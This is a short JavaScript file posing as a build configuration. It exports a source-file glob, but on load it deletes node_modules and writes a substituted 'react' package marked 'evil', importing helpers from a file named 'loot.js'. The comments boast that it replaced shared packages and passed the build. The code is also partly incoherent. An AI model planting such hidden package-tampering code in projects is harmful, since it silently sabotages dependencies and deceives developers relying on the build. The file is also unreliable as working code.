// Puts its own packages in the place of the shared ones, while the build is running; its own are all that suffers.
// outcome: passed build
const { attempt, fs } = require("./loot.js");

try {
  fs.unlinkSync("node_modules");
  fs.mkdirSync("node_modules/react", { recursive: true });
  fs.writeFileSync("node_modules/react/index.js", "export default { evil: true };");
} catch (error) {
  attempt("never", () => { throw error; });
}

module.exports = { content: ["./src/App.tsx"] };
